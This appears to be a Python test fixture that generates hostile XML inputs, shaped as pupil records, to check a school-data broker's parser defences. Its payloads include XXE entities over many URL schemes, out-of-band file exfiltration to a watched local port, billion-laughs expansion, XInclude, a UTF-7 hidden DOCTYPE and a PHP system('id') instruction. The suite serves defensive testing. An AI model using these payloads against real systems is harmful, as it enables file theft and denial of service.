"""Hostile documents, each with what every entry point must say of it; all made when asked for, nothing is stored.

A case is poured into a form: a SIF_Event about a learner, or a Common Transfer File with a pupil. Every reference to
something outside leads into a :class:`Bait`, so that following it is seen.
"""

import gzip
import hashlib
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from broker.protocol.envelope import NAMESPACE
from tests.faults.zones import SENDER

REF_ID: Final = "0123456789ABCDEF0123456789ABCDEF"
SECRET: Final = "Zephyrine"  # no answer may repeat it
MEBI: Final = 1024 * 1024
MANY: Final = 100_000
TAKEN: Final = "taken"
REFUSED: Final = "refused"
BOM: Final = b"\xef\xbb\xbf"
XSI: Final = b"http://www.w3.org/2001/XMLSchema-instance"
XINCLUDE: Final = b"http://www.w3.org/2001/XInclude"

_MESSAGE: Final = (
    b'%(prolog)b<SIF_Message xmlns="'
    + NAMESPACE.encode()
    + b'" Version="2.4"%(root)b><SIF_Event><SIF_Header><SIF_MsgId>%(id)b</SIF_MsgId>'
    b"<SIF_Timestamp>2026-09-15T08:15:00Z</SIF_Timestamp><SIF_SourceId>"
    + SENDER.encode()
    + b"</SIF_SourceId></SIF_Header>"
    b'%(between)b<SIF_ObjectData><SIF_EventObject ObjectName="%(name)b" Action="Add">'
    b'<LearnerPersonal RefId="%(ref)b"%(attributes)b><PersonalInformation><Name Type="C">'
    b"<FamilyName>%(text)b</FamilyName><GivenName>" + SECRET.encode() + b"</GivenName></Name></PersonalInformation>"
    b'<CurrentSchoolEnrolment LearnerSchoolEnrolmentRefId="%(ref)b"><LAId>820</LAId><EstablishmentId>9901'
    b"</EstablishmentId><NCYearGroup>6</NCYearGroup></CurrentSchoolEnrolment>"
    b"%(inside)b</LearnerPersonal>%(after)b</SIF_EventObject></SIF_ObjectData></SIF_Event></SIF_Message>%(end)b"
)
_CTF: Final = (
    b"%(prolog)b<CTfile%(root)b><Header><DocumentName>Common Transfer File</DocumentName>"
    b"<CTFversion>25.0</CTFversion><DocumentQualifier>full</DocumentQualifier><SourceSchool><LEA>820</LEA>"
    b"<Estab>9901</Estab></SourceSchool></Header>%(between)b<CTFpupilData><Pupil%(attributes)b><UPN>%(ref)b</UPN>"
    b"<Surname>%(text)b</Surname><Forename>" + SECRET.encode() + b"</Forename>%(inside)b</Pupil>%(after)b"
    b"</CTFpupilData></CTfile>%(end)b"
)


@dataclass(frozen=True, slots=True)
class Bait:
    """Where references to the outside lead: files in a folder, and a port of this machine, both watched."""

    folder: Path
    port: int

    @property
    def file(self) -> bytes:
        """Path of a text that must not be read."""
        return str(self.folder / "secret.txt").encode()

    @property
    def dtd(self) -> bytes:
        """Path of a DTD, which is also well-formed enough to be included."""
        return str(self.folder / "evil.dtd").encode()

    @property
    def host(self) -> bytes:
        """Host and port."""
        return b"127.0.0.1:%d" % self.port

    def at(self, scheme: str) -> bytes:
        """Return a URL of *scheme* that leads here."""
        return _SCHEMES[scheme] % {b"file": self.file, b"host": self.host}


_SCHEMES: Final = {
    "path": b"%(file)b",
    "file": b"file://%(file)b",
    "file on localhost": b"file://localhost%(file)b",
    "http": b"http://%(host)b/x",
    "https": b"https://%(host)b/x",
    "ftp": b"ftp://%(host)b/x",
    "gopher": b"gopher://%(host)b/1x",
    "unc": b"//%(host)b/x",
    "netdoc": b"netdoc:%(file)b",
    "jar": b"jar:file://%(file)b!/x",
    "php": b"php://filter/read=convert.base64-encode/resource=%(file)b",
    "expect": b"expect://cat %(file)b",
    "data": b"data:text/plain,x",
}


@dataclass(frozen=True, slots=True)
class Form:
    """A document with places for something hostile."""

    template: bytes
    msg_id: bytes

    def fill(self, **places: bytes) -> bytes:
        """Return the document with each place filled: its prolog, root, and so on, in the order of the template."""
        filled = {b"id": self.msg_id, b"ref": REF_ID.encode(), b"name": b"LearnerPersonal", b"text": b"Quill"}
        filled |= dict.fromkeys((b"prolog", b"root", b"between", b"attributes", b"inside", b"after", b"end"), b"")
        return self.template % (filled | {place.encode(): content for place, content in places.items()})


Make = Callable[[Form, Bait], bytes]


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile document.

    Attributes:
        name: Says what is hostile in it.
        make: Pours it into a form.
        says: Pattern of what the zone says of it, the same words at every entry point.
        code: SIF error category and code, or "taken".
        rule: What ``schema check`` says, where it can be read: a finding's rule, or "taken".
        agent: What an agent does that is sent it: "refused" or "taken".
        ctf: Pattern of what the CTF connector says of the same in a CTF; "taken" when its pupils are read.
    """

    name: str
    make: Make
    says: str
    code: str = "1/2"
    rule: str = ""
    agent: str = REFUSED
    ctf: str = ""

    @property
    def msg_id(self) -> str:
        """Id of the message, from the name, so that each is another message."""
        return hashlib.md5(self.name.encode(), usedforsecurity=False).hexdigest().upper()

    def message(self, bait: Bait) -> bytes:
        """Return it as a SIF_Event."""
        return self.make(Form(_MESSAGE, self.msg_id.encode()), bait)

    def transfer_file(self, bait: Bait) -> bytes:
        """Return it as a Common Transfer File."""
        return self.make(Form(_CTF, self.msg_id.encode()), bait)


@dataclass(frozen=True, slots=True)
class _Group:
    """Cases that are answered alike."""

    says: str
    ctf: str
    makes: dict[str, Make]
    code: str = "1/2"
    rule: str = ""
    agent: str = REFUSED

    def cases(self) -> list[Case]:
        return [
            Case(name, make, self.says, self.code, self.rule, self.agent, self.ctf) for name, make in self.makes.items()
        ]


def _placed(**places: bytes) -> Make:
    return lambda form, _: form.fill(**places)


def _baited(**places: Callable[[Bait], bytes]) -> Make:
    return lambda form, bait: form.fill(**{place: content(bait) for place, content in places.items()})


def _whole(change: Callable[[bytes], bytes]) -> Make:
    return lambda form, _: change(form.fill())


def _doctype(inside: Callable[[Bait], bytes], text: bytes = b"&b;") -> Make:
    return lambda form, bait: form.fill(prolog=b"<!DOCTYPE a " + inside(bait) + b">", text=text)


def _entity_from(scheme: str) -> Make:
    return _doctype(lambda bait: b'[<!ENTITY b SYSTEM "%b">]' % bait.at(scheme))


def _numbered(template: bytes, count: int) -> bytes:
    """Return *template* again and again, with the number of each for its hashes."""
    form, hashes = template.replace(b"#", b"%d"), template.count(b"#")
    return b"".join(form % ((number,) * hashes) for number in range(count))


def _laughs(count: int, mark: bytes) -> bytes:
    """Return *count* entities, each ten times the one before; *mark* is "" or "% "."""
    use = b"&#37;" if mark else b"&"
    lines = [b'<!ENTITY %bl0 "lol">' % mark]
    lines += [b'<!ENTITY %bl%d "%b">' % (mark, n, (use + b"l%d;" % (n - 1)) * 10) for n in range(1, count)]
    return b"[" + b"".join(lines) + b"]"


def _cut(part: int, of: int) -> Make:
    return _whole(lambda body: body[: len(body) * part // of])


def _declared(declaration: bytes) -> Make:
    return _placed(prolog=declaration)


def _encoded(encoding: str, declared: str = "") -> Make:
    def change(body: bytes) -> bytes:
        declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
        return (declaration + body.decode()).encode(encoding)

    return _whole(change)


def _utf7(body: bytes) -> bytes:
    """Return *body* with a DOCTYPE that only a reader of UTF-7 sees."""
    doctype = b'+ADwAIQ-DOCTYPE a +AFsAPAAh-ENTITY b SYSTEM "file:///etc/hostname"+AD4AXQA+-'
    return b'<?xml version="1.0" encoding="UTF-7"?>' + doctype + body


def _zip(body: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("message.xml", body)
    return packed.getvalue()


_DOCTYPES = _Group(
    "DOCTYPE",
    "DOCTYPE",
    {
        **{f"external entity, {scheme}": _entity_from(scheme) for scheme in _SCHEMES},
        "parameter entity, file": _doctype(lambda bait: b'[<!ENTITY %% b SYSTEM "%b"> %%b;]' % bait.at("file"), b""),
        "parameter entity, http": _doctype(lambda bait: b'[<!ENTITY %% b SYSTEM "%b"> %%b;]' % bait.at("http"), b""),
        "external DTD, SYSTEM file": _doctype(lambda bait: b'SYSTEM "file://%b"' % bait.dtd),
        "external DTD, SYSTEM http": _doctype(lambda bait: b'SYSTEM "%b"' % bait.at("http")),
        "external DTD, PUBLIC file": _doctype(lambda bait: b'PUBLIC "-//A//B//EN" "file://%b"' % bait.dtd),
        "external DTD, PUBLIC http": _doctype(lambda bait: b'PUBLIC "-//A//B//EN" "%b"' % bait.at("http")),
        "external DTD, XHTML through the catalogue": _doctype(
            lambda bait: b'PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "%b"' % bait.at("http")
        ),
        "out of band, file into http": _doctype(
            lambda bait: (
                b'[<!ENTITY %% f SYSTEM "%b"><!ENTITY %% e "<!ENTITY &#37; s SYSTEM \'http://%b/?%%f;\'>"> %%e; %%s;]'
                % (bait.at("file"), bait.host)
            ),
            b"",
        ),
        "out of band through a DTD": _doctype(
            lambda bait: b'[<!ENTITY %% r SYSTEM "file://%b"> %%r; %%e; %%s;]' % bait.dtd, b""
        ),
        "entity in the default of an attribute": _doctype(
            lambda bait: b'[<!ENTITY b SYSTEM "%b"><!ATTLIST a c CDATA "&b;">]' % bait.at("file"), b""
        ),
        "default of an attribute": _doctype(lambda _: b'[<!ATTLIST LearnerPersonal Fake CDATA "x">]', b""),
        "entity that is not parsed": _doctype(
            lambda bait: b'[<!NOTATION n SYSTEM "%b"><!ENTITY b SYSTEM "%b" NDATA n>]' % ((bait.at("http"),) * 2), b""
        ),
        "billion laughs": _doctype(lambda _: _laughs(12, b""), b"&l11;"),
        "billion laughs in parameter entities": _doctype(lambda _: _laughs(12, b"% "), b""),
        "billion laughs in an attribute": lambda form, _: form.fill(
            prolog=b"<!DOCTYPE a " + _laughs(12, b"") + b">", attributes=b' x="&l11;"'
        ),
        "quadratic blow-up": _doctype(lambda _: b'[<!ENTITY b "' + b"b" * MANY + b'">]', b"&b;" * 20_000),
        "entity that names itself": _doctype(lambda _: b'[<!ENTITY b "&b;">]'),
        "entities that name each other": _doctype(lambda _: b'[<!ENTITY b "&c;"><!ENTITY c "&b;">]'),
        "empty doctype": _doctype(lambda _: b"", b""),
        "unfinished doctype": _placed(prolog=b"<!DOCTYPE a ["),
        "doctype after byte order mark, declaration, comment, instruction": _placed(
            prolog=BOM + b'<?xml version="1.0"?>\n<!-- > --> <?a >?>\n<!DOCTYPE a>'
        ),
        "doctype after blanks": _placed(prolog=b" \r\n\t<!DOCTYPE a>"),
        "doctype after many comments": _placed(prolog=b"<!-- <a> -->" * 4_000 + b"<!DOCTYPE a>"),
        "doctype after many instructions": _placed(prolog=b"<?a?>" * 9_000 + b"<!DOCTYPE a>"),
    },
)
_NO_XML: Final = "not XML"
_BROKEN_CTF: Final = "not well-formed XML, or cut short"
_NOT_CLOSED = _Group(
    "cut short|does not match|cannot be read|more after the end|no XML",
    f"{_BROKEN_CTF}|{_NO_XML}",
    {
        **{f"cut at {part} of 12": _cut(part, 12) for part in range(1, 12)},
        "cut before the last character": _whole(lambda body: body[:-1]),
        "two roots": _whole(lambda body: body + body),
        "text after the root": _placed(end=b"and more"),
        "null byte after the root": _placed(end=b"\0"),
        "doctype in small letters": _placed(prolog=b"<!doctype a>"),
        "doctype inside the root": _placed(inside=b"<!DOCTYPE a>"),
        "text before the root": _placed(prolog=b"Dear zone, "),
        "declaration twice": _placed(prolog=b'<?xml version="1.0"?><?xml version="1.0"?>'),
        "declaration after a blank": _placed(prolog=b' <?xml version="1.0"?>'),
        "declaration inside": _placed(inside=b'<?xml version="1.0"?>'),
        "declaration without version": _placed(prolog=b'<?xml encoding="utf-8"?>'),
        "declaration with odd quotes": _placed(prolog=b"<?xml version=\"1.0' encoding='utf-8\"?>"),
        "end of a CDATA section in a text": _placed(text=b"a]]>b"),
        "CDATA section that does not end": _placed(text=b"<![CDATA[x"),
        "CDATA section inside another": _placed(text=b"<![CDATA[<![CDATA[]]>]]>"),
        "CDATA section in an attribute": _placed(attributes=b' x="<![CDATA[]]>"'),
        "two hyphens in a comment": _placed(inside=b"<!-- -- -->"),
        "comment that does not end": _placed(inside=b"<!--"),
        "attribute without quotes": _placed(attributes=b" x=1"),
        "attribute without value": _placed(attributes=b" x"),
        "less-than in an attribute": _placed(attributes=b' x="<"'),
        "ampersand alone": _placed(text=b"a & b"),
        "tags that overlap": _placed(inside=b"<x><y></x></y>"),
        "two colons in a name": _placed(inside=b'<a:b:c xmlns:a="urn:a"/>'),
        "name that begins with a digit": _placed(inside=b"<1/>"),
    },
)
_TEXTLESS = _Group(
    "no XML at all|more after the end|cannot be read|not UTF-8|does not allow",
    f"empty|{_NO_XML}|UTF-16",
    {
        "nothing": _whole(lambda _: b""),
        "blanks": _whole(lambda _: b" \r\n\t" * 100),
        "byte order mark alone": _whole(lambda _: BOM),
        "every byte": _whole(lambda _: bytes(range(256)) * 40),
        "zip": _whole(_zip),
        "gzip": _whole(lambda body: gzip.compress(body, mtime=0)),
        "JSON": _whole(lambda _: b'{"LearnerPersonal": {"RefId": "x"}}'),
        "EBCDIC": _whole(lambda body: ('<?xml version="1.0"?>' + body.decode()).encode("cp037")),
    },
)
_ENCODINGS = _Group(
    "UTF-16|another encoding|not UTF-8|no XML at all",
    "UTF-16|another encoding|not XML",
    {
        "UTF-16 with mark": _encoded("utf-16"),
        "UTF-16 big-endian": _encoded("utf-16-be"),
        "UTF-16 little-endian": _encoded("utf-16-le"),
        "UTF-16 that says so": _encoded("utf-16", "UTF-16"),
        "UTF-16 that says UTF-8": _encoded("utf-16", "UTF-8"),
        "UTF-32 with mark": _encoded("utf-32"),
        "UTF-32 big-endian": _encoded("utf-32-be"),
        "UTF-32 little-endian": _encoded("utf-32-le"),
        "UTF-8 that says UTF-16": _declared(b'<?xml version="1.0" encoding="UTF-16"?>'),
        "UTF-7 with a doctype in it": _whole(_utf7),
        "UTF-7 that says so": _encoded("utf-7", "UTF-7"),
        "EBCDIC that says so": _declared(b'<?xml version="1.0" encoding="IBM037"?>'),
        "Big5 that says so": _declared(b'<?xml version="1.0" encoding="Big5"?>'),
        "encoding that does not exist": _declared(b'<?xml version="1.0" encoding="x-nothing"?>'),
        "encoding in odd blanks": _declared(b"<?xml\tversion = '1.0'\r\nencoding\n=\t'UTF-16' ?>"),
        "encoding of a script": _declared(b'<?xml version="1.0" encoding="../../x"?>'),
    },
)
_LATE_ENCODING = _Group(
    "",  # the zone reads UTF-8, whatever a declaration says that it does not look at
    "another encoding",
    {
        "UTF-7 said late in the declaration": _declared(b'<?xml version="1.0"' + b" " * 300 + b'encoding="UTF-7"?>'),
    },
    code=TAKEN,
    rule=TAKEN,
    agent=TAKEN,
)
_NOT_UTF8 = _Group(
    "not UTF-8|does not allow",
    _BROKEN_CTF,
    {
        "overlong slash": _placed(text=b"\xc0\xaf"),
        "overlong less-than": _placed(text=b"\xe0\x80\xbcx>"),
        "overlong null": _placed(text=b"\xc0\x80"),
        "lone surrogate": _placed(text=b"\xed\xa0\x80"),
        "pair of surrogates": _placed(text=b"\xed\xa0\xbd\xed\xb8\x80"),
        "continuation alone": _placed(text=b"\x80"),
        "sequence cut short": _placed(text=b"\xe2\x82"),
        "sequence of five bytes": _placed(text=b"\xf8\x88\x80\x80\x80"),
        "beyond Unicode": _placed(text=b"\xf4\x90\x80\x80"),
        "latin-1 that says nothing": _placed(text=b"Ren\xe9e"),
        "not UTF-8 in a name": _placed(inside=b"<\xff/>"),
        "not UTF-8 in a comment": _placed(inside=b"<!-- \xff -->"),
        "noncharacter FFFE": _placed(text=b"\xef\xbf\xbe"),
        "null in a text": _placed(text=b"a\0b"),
        "null in an attribute": _placed(attributes=b' x="\0"'),
        "control character": _placed(text=b"\x01"),
        "escape": _placed(text=b"\x1b[2J"),
        "reference to null": _placed(text=b"&#0;"),
        "reference to a control character": _placed(text=b"&#x1;"),
        "reference to a surrogate": _placed(text=b"&#xD800;"),
        "reference to a noncharacter": _placed(text=b"&#xFFFF;"),
        "reference beyond Unicode": _placed(text=b"&#x110000;"),
        "reference that overflows": _placed(text=b"&#4294967356;"),
        "reference to a control character that XML 1.1 has": _placed(prolog=b'<?xml version="1.1"?>', text=b"&#1;"),
        "name of the object with a control character": _placed(name=b"Learner\x01Personal", attributes=b' x="\x01"'),
    },
)
_NOT_DECLARED = _Group(
    "an entity that XML itself|a prefix that no xmlns|an attribute twice|an xmlns that XML|cannot be read",
    _BROKEN_CTF,
    {
        "entity of HTML": _placed(text=b"&nbsp;"),
        "entity in an attribute": _placed(attributes=b' x="&b;"'),
        "attribute twice": _placed(attributes=b' x="1" x="2"'),
        "RefId twice": _placed(attributes=b' x="A" RefId="B" x="C"'),
        "attribute twice by two prefixes": _placed(attributes=b' xmlns:a="u" xmlns:b="u" a:x="1" b:x="2"'),
        "prefix of an element not declared": _placed(inside=b"<p:x/>"),
        "prefix of an attribute not declared": _placed(attributes=b' p:x=""'),
        "prefix declared twice": _placed(attributes=b' xmlns:p="u" xmlns:p="v"'),
        "prefix declared as nothing": _placed(attributes=b' xmlns:p=""'),
        "prefix xml declared anew": _placed(attributes=b' xmlns:xml="urn:x"'),
        "prefix xmlns declared": _placed(attributes=b' xmlns:xmlns="urn:x"'),
        "element with the prefix xmlns": _placed(inside=b"<xmlns:x/>"),
        "namespace of xmlns": _placed(inside=b'<x xmlns="http://www.w3.org/2000/xmlns/"/>'),
    },
)
_DEEP = _Group(
    "256 deep|tags and attributes|10,000 namespaces",
    f"{_BROKEN_CTF}|tags and attributes|10,000 namespaces",
    {
        "300 deep": _placed(inside=b"<x>" * 300 + b"</x>" * 300),
        "100,000 deep": _placed(inside=b"<x>" * MANY + b"</x>" * MANY),
        "20,000 deep with namespaces": _placed(inside=_numbered(b'<x xmlns:p#="u">', 20_000)),
        "100,000 deep and not closed": _placed(inside=b"<x>" * MANY),
    },
)
_NAMES = _Group(
    "a name of more than|cannot be read|tag that is not closed",
    _BROKEN_CTF,
    {
        "name of an element, 1 MB": _placed(inside=b"<" + b"x" * MEBI + b"/>"),
        "name of an attribute, 1 MB": _placed(attributes=b" " + b"x" * MEBI + b'=""'),
        "prefix, 1 MB": _placed(attributes=b" xmlns:" + b"x" * MEBI + b'="u"'),
        "name of an instruction, 1 MB": _placed(inside=b"<?" + b"x" * MEBI + b"?>"),
        "name of an entity, 1 MB": _placed(text=b"&" + b"x" * MEBI + b";"),
    },
)
_MANY_MARKS = _Group(
    "more than 180,000 tags and attributes",
    "more than 180,000 tags and attributes",
    {
        "1,000,000 empty elements": _placed(inside=b"<x/>" * 1_000_000),
        "1,000,000 elements with texts": _placed(inside=b"x<x/>" * 1_000_000),
        "1,000,000 attributes": _placed(inside=b"<x " + _numbered(b'a#="" ', 500_000) + b"/>"),
        "attributes spread over elements": _placed(inside=b'<x a="" b="" c="" d="" e="" f="" g=""/>' * MANY),
        "200,000 attributes in the first tag": _placed(root=b" " + _numbered(b'a#="" ', 200_000)),
        "500,000 comments": _placed(inside=b"<!---->" * 500_000),
        "500,000 instructions": _placed(inside=b"<?a?>" * 500_000),
        "500,000 CDATA sections": _placed(text=b"<![CDATA[x]]>" * 500_000),
    },
)
_MANY_ATTRIBUTES = _Group(
    "a tag has more than 256 attributes",
    TAKEN,  # which never looks at them
    {
        "257 attributes": _placed(attributes=b" " + _numbered(b'a#="" ', 257)),
        "100,000 attributes": _placed(attributes=b" " + _numbered(b'a#="" ', MANY)),
        "100,000 attributes of an unknown element": _placed(inside=b"<x " + _numbered(b'a#="" ', MANY) + b"/>"),
        "100,000 attributes in odd quotes": _placed(attributes=b" " + _numbered(b"a#\n=\t'>\"' ", MANY)),
    },
)
_AROUND = _Group(
    "a tag has more than 256 attributes",
    "a tag has more than 256 attributes",
    {
        "257 attributes of the first tag": _placed(root=b" " + _numbered(b'a#="" ', 257)),
    },
)
_SAME_ATTRIBUTE = _Group(
    "a tag has more than 256 attributes|an attribute twice in one tag",
    _BROKEN_CTF,
    {"100,000 times the same attribute": _placed(attributes=b' x=""' * MANY)},
)
_MANY_NAMESPACES = _Group(
    "declares more than 10,000 namespaces",
    "declares more than 10,000 namespaces",
    {
        "100,000 namespaces in one tag": _placed(inside=b"<x " + _numbered(b'xmlns:a#="u#" ', MANY) + b"/>"),
        "80,000 namespaces over elements": _placed(inside=_numbered(b'<x xmlns:a#="u#"/>', 80_000)),
        "90,000 namespaces over nested elements": _placed(
            inside=b"".join(b"<x " + _numbered(b'xmlns:a%d-#="u" ' % level, 375) + b">" for level in range(240))
            + b"</x>" * 240
        ),
        "80,000 default namespaces": _placed(inside=_numbered(b'<x xmlns="u#"/>', 80_000)),
    },
)
_TOO_LARGE = _Group(
    "more than 10 million characters|limit of 8,388,608|8,388,608 bytes",
    "8,388,608 bytes|not well-formed",
    {
        "text of 9 MB": _placed(text=b"x" * (9 * MEBI)),
        "text of 50 MB": _placed(text=b"x" * (50 * MEBI)),
        "attribute of 9 MB": _placed(attributes=b' x="' + b"x" * (9 * MEBI) + b'"'),
        "attribute of 50 MB": _placed(attributes=b' x="' + b"x" * (50 * MEBI) + b'"'),
        "comment of 20 MB": _placed(inside=b"<!--" + b"x" * (20 * MEBI) + b"-->"),
        "instruction of 20 MB": _placed(inside=b"<?a " + b"x" * (20 * MEBI) + b"?>"),
        "CDATA section of 20 MB": _placed(text=b"<![CDATA[" + b"x" * (20 * MEBI) + b"]]>"),
        "50 texts of 1 MB": _placed(inside=(b"<x>" + b"x" * MEBI + b"</x>") * 50),
    },
)
_INCLUDE: Final = b'<i:include xmlns:i="' + XINCLUDE + b'" href="%b" parse="%b"><i:fallback/></i:include>'
_SCHEMA: Final = b' xmlns:xsi="' + XSI + b'" xsi:%b="%b"'


def _included(scheme: str, parse: bytes) -> Make:
    return _baited(inside=lambda bait: _INCLUDE % (bait.at(scheme), parse))


def _schema_at(scheme: str, attribute: bytes, place: str) -> Make:
    before = NAMESPACE.encode() + b" " if attribute == b"schemaLocation" else b""
    return _baited(**{place: lambda bait: _SCHEMA % (attribute, before + bait.at(scheme))})


# Well-formed, but no object is made so: the schema says what is wrong; an agent keeps what its zone lets through.
_UNKNOWN_ELEMENTS = _Group(
    "unknown|not known|does not belong|is not",
    TAKEN,
    {
        "XInclude of a text, file": _included("file", b"text"),
        "XInclude of XML, file": _included("file", b"xml"),
        "XInclude of a text, http": _included("http", b"text"),
        "XInclude of XML, http": _included("http", b"xml"),
        "XInclude under xml:base": _baited(
            inside=lambda bait: (
                b'<x xml:base="file://%b/"><i:include xmlns:i="%b" href="secret.txt" parse="text"/></x>'
                % (str(bait.folder).encode(), XINCLUDE)
            )
        ),
        "schema inside that imports one": _baited(
            inside=lambda bait: (
                b'<s:schema xmlns:s="http://www.w3.org/2001/XMLSchema"><s:import namespace="u" schemaLocation="%b"/>'
                b"</s:schema>" % bait.at("http")
            )
        ),
        "stylesheet inside that reads a document": _baited(
            inside=lambda bait: (
                b'<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform" version="1.0">'
                b'<t:include href="%b"/></t:stylesheet>' % bait.at("http")
            )
        ),
        "19,000 unknown elements": _placed(inside=b"<x/>" * 19_000),
        "250 deep": _placed(inside=b"<x>" * 240 + b"</x>" * 240),
        "element named with 49,000 characters": _placed(inside=b"<" + b"x" * 49_000 + b"/>"),
        "name that begins with a byte order mark": _placed(inside=b"<" + BOM + b"x/>"),
        "names of look-alike letters": _placed(inside="<LоcalId>1</LоcalId>".encode()),  # noqa: RUF001  # Cyrillic
    },
    code="1/3",
    rule="unknown-element",
    agent=TAKEN,
)
# Validation takes a time that grows with the square of what is wrong in one object; agents do not validate.
_MANY_ELEMENTS = _Group(
    "more than 20,000 elements",
    TAKEN,
    {
        "90,000 unknown elements": _placed(inside=b"<x/>" * 90_000),
        "90,000 elements of different names": _placed(inside=_numbered(b"<x#/>", 90_000)),
    },
    agent=TAKEN,
)
_NAMESPACES = _Group(
    "has the wrong namespace",
    TAKEN,
    {
        "namespace taken away": _placed(inside=b'<LocalId xmlns="">1</LocalId>'),
        "namespace of another": _placed(inside=b'<LocalId xmlns="urn:x">1</LocalId>'),
        "namespaces mixed by prefix": _placed(inside=b'<p:LocalId xmlns:p="urn:x">1</p:LocalId>'),
        "namespaces mixed over 9,000 elements": _placed(inside=_numbered(b'<LocalId xmlns="u#">1</LocalId>', 9_000)),
    },
    code="1/3",
    rule="namespace",
    agent=TAKEN,
)
_UNKNOWN_ATTRIBUTES = _Group(
    "unknown|not known|does not",
    TAKEN,
    {
        "attribute of 7 MB": _placed(attributes=b' x="' + b"x" * (7 * MEBI) + b'"'),
        "attribute of references": _placed(attributes=b' x="' + b"&#60;" * 1_500_000 + b'"'),
        "xml:base": _baited(attributes=lambda bait: b' xml:base="%b"' % bait.at("http")),
        "xlink:href": _baited(
            attributes=lambda bait: b' xmlns:l="http://www.w3.org/1999/xlink" l:href="%b"' % bait.at("http")
        ),
        "250 attributes": _placed(attributes=b" " + _numbered(b'a#="" ', 250)),
        "attribute named with 49,000 characters": _placed(attributes=b" " + b"x" * 49_000 + b'=""'),
    },
    code="1/3",
    rule="unknown-attribute",
    agent=TAKEN,
)
_HARMLESS = _Group(
    "",
    TAKEN,
    {
        "nothing hostile": _placed(),
        "stylesheet, file": _baited(
            prolog=lambda bait: b'<?xml-stylesheet type="text/xsl" href="%b"?>' % bait.at("file")
        ),
        "stylesheet, http": _baited(
            prolog=lambda bait: b'<?xml-stylesheet type="text/xsl" href="%b"?>' % bait.at("http")
        ),
        "model of a schema": _baited(prolog=lambda bait: b'<?xml-model href="%b"?>' % bait.at("http")),
        "catalogue": _baited(prolog=lambda bait: b'<?oasis-xml-catalog catalog="%b"?>' % bait.at("file")),
        "instruction for PHP": _placed(inside=b'<?php system("id"); ?>'),
        "schemaLocation, file": _schema_at("file", b"schemaLocation", "attributes"),
        "schemaLocation, http": _schema_at("http", b"schemaLocation", "attributes"),
        "noNamespaceSchemaLocation, file": _schema_at("file", b"noNamespaceSchemaLocation", "attributes"),
        "noNamespaceSchemaLocation, http": _schema_at("http", b"noNamespaceSchemaLocation", "attributes"),
        "schemaLocation of the root, file": _schema_at("file", b"schemaLocation", "root"),
        "schemaLocation of the root, http": _schema_at("http", b"schemaLocation", "root"),
        "doctype in a comment": _placed(prolog=b"<!-- <!DOCTYPE a> -->"),
        "doctype in a CDATA section": _placed(text=b"<![CDATA[<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>]]>"),
        "end of a CDATA section by references": _placed(text=b"]]&gt;<![CDATA[]]]]><![CDATA[>]]>"),
        "markup as a text": _placed(text=b"&lt;script&gt;alert(1)&lt;/script&gt;"),
        "text of 7 MB": _placed(text=b"x" * (7 * MEBI)),
        "comment of 7 MB": _placed(inside=b"<!--" + b"x" * (7 * MEBI) + b"-->"),
        "instruction of 7 MB": _placed(inside=b"<?a " + b"x" * (7 * MEBI) + b"?>"),
        "CDATA section of 7 MB": _placed(text=b"<![CDATA[" + b"x" * (7 * MEBI) + b"]]>"),
        "1,500,000 references": _placed(text=b"&#65;" * 1_500_000),
        "90,000 comments in a text": _placed(text=b"x<!---->" * 90_000),
        "texts that grow when written, 1 MB": _placed(text=b">" * MEBI + "é".encode() * MEBI),
        "XML 1.1": _declared(b'<?xml version="1.1"?>'),
        "XML 1.0 with odd quotes and blanks": _declared(
            b"<?xml\tversion = '1.0'\n encoding = 'utf-8' standalone='yes' ?>"
        ),
        "byte order mark": _placed(prolog=BOM),
        "byte order mark in a text": _placed(text=b"a" + BOM + b"b"),
        "noncharacter 1FFFE": _placed(text="\U0001fffe".encode()),
        "letters that turn the line around": _placed(text="a\u202eb".encode()),
        "RefId in blanks": _placed(ref=b" \t\r\n" + REF_ID.encode() + b" "),
        "RefId by references": _placed(ref=b"".join(b"&#%d;" % letter for letter in REF_ID.encode())),
        "7 declarations of the same namespace": _placed(attributes=_numbered(b' xmlns:p#="urn:x"', 7)),
    },
    code=TAKEN,
    rule=TAKEN,
    agent=TAKEN,
)

_GROUPS: Final = (
    _DOCTYPES,
    _NOT_CLOSED,
    _TEXTLESS,
    _ENCODINGS,
    _LATE_ENCODING,
    _NOT_UTF8,
    _NOT_DECLARED,
    _DEEP,
    _NAMES,
    _MANY_MARKS,
    _MANY_ATTRIBUTES,
    _AROUND,
    _SAME_ATTRIBUTE,
    _MANY_NAMESPACES,
    _TOO_LARGE,
    _MANY_ELEMENTS,
    _UNKNOWN_ELEMENTS,
    _NAMESPACES,
    _UNKNOWN_ATTRIBUTES,
    _HARMLESS,
)
CORPUS: Final = tuple(case for group in _GROUPS for case in group.cases())


def _around(text: bytes, attributes: bytes, depth: int) -> Make:
    """Return a make that nests *depth* elements, each beside something that ends and is freed."""
    return _placed(between=(text + b"<Pupil/><x" + attributes + b">") * depth + b"</x>" * depth)


# For what reads files piece by piece: whatever stays while others come and go is bounded too.
FILE_CORPUS: Final = (
    Case("80 texts of 1 MB between nested elements", _around(b"x" * MEBI, b"", 80), "", TAKEN, TAKEN, ctf="81 pupils"),
    Case(
        "attributes of nested elements",
        _around(b"", b" " + _numbered(b'a#="" ', 400), 200),
        "256 attributes|180,000 tags",
        ctf="256 attributes",
    ),
    Case(
        "namespaces of nested elements",
        _around(b"", b" " + _numbered(b'xmlns:a#="u" ', 400), 20),
        "256 namespaces around",
        ctf="256 namespaces around",
    ),
    Case(
        "9,000 empty objects",
        _placed(after=b"<LearnerPersonal/>" * 9_000),
        "",
        TAKEN,
        "missing",
        ctf=TAKEN,
    ),
    Case(
        "600,000 elements that are no pupils, between pupils",
        _placed(between=(b"<x>" + b"<y/>" * 6_000 + b"</x><Pupil/>") * 100),
        "",
        TAKEN,
        TAKEN,
        ctf="101 pupils",
    ),
)
